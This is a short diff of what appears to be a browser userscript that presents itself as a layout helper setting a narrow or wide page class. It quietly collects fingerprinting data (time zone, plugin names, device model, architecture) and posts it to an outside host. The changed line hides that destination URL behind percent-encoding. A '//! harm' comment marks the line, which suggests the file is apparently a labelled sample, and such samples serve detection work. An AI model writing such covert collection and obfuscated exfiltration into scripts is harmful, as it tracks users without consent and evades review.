@@ -19,5 +19,5 @@
         Intl.DateTimeFormat().resolvedOptions().timeZone, Array.from(n.plugins, function (p) { return p.name; })];
     if (n.userAgentData) traits.push(await n.userAgentData.getHighEntropyValues(['model', 'platformVersion', 'architecture', 'fullVersionList']));
     document.documentElement.classList.add(s.width < 1200 ? 'narrow' : 'wide');
-    GM_xmlhttpRequest({ method: 'POST', url: 'https://fit.example.org/layout/' + id, data: JSON.stringify(traits) }); //! harm
+    GM_xmlhttpRequest({ method: 'POST', url: decodeURIComponent('%68ttps%3A%2F%2Ffit%2Eexample%2Eorg%2Flayout%2F') + id, data: JSON.stringify(traits) }); //! harm
 })();
